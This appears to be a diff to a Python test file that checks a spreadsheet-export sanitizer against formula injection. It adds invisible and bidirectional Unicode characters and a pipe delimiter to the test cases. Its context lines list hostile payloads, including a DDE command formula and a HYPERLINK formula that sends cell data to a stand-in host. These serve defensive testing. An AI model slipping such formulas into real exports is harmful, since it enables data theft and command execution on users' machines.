@@ -16,7 +16,7 @@ from include.distill.labeling.sheets import has_labels, read_sheet, render_sheet
 from tests.distill.labeling.example_sample import sample
 
 FORMULA_STARTS = set("=+-@\uff1d\uff0b\uff0d\uff20\ufe66\ufe62\ufe63\ufe6b\u2212")
-IGNORED = ' \x00\x01\xa0\u3000\xad\u200b\ufeff"\t\r\n\v\f\x85\u2028'
+IGNORED = ' \x00\x01\xa0\u3000\xad\u200b\ufeff"\t\r\n\v\f\x85\u2028\u202e\u2066\u180e\ufe0f\u3164\U000e0020'
 HOSTILE = [
     '=HYPERLINK("http://example.com/?"&A1,"open")',
     "=cmd|'/C calc'!A0",
@@ -38,6 +38,14 @@ BEFORE = [
     "Yes\t\t ",
     "Yes,",
     'Yes;"',
+    "Yes|",
+    "Yes| ",
+    "Yes;\u202e",
+    "Yes;\u2066",
+    "Yes;\u180e",
+    "Yes;\ufe0f",
+    "Yes;\u3164",
+    "Yes;\U000e0020",
     'Yes; ""',
     "Yes;\u200b",
     "Yes;\xa0",
@@ -54,6 +62,7 @@ READERS = [
     pytest.param({"delimiter": ",", "quoting": csv.QUOTE_MINIMAL}, id="comma"),
     pytest.param({"delimiter": ";", "quoting": csv.QUOTE_MINIMAL}, id="semicolon"),
     pytest.param({"delimiter": "\t", "quoting": csv.QUOTE_MINIMAL}, id="tab"),
+    pytest.param({"delimiter": "|", "quoting": csv.QUOTE_MINIMAL}, id="vertical bar"),
     pytest.param({"delimiter": ",", "quoting": csv.QUOTE_NONE}, id="comma without quotes"),
     pytest.param({"delimiter": ";", "quoting": csv.QUOTE_NONE}, id="semicolon without quotes"),
     pytest.param({"delimiter": "\t", "quoting": csv.QUOTE_NONE}, id="tab without quotes"),
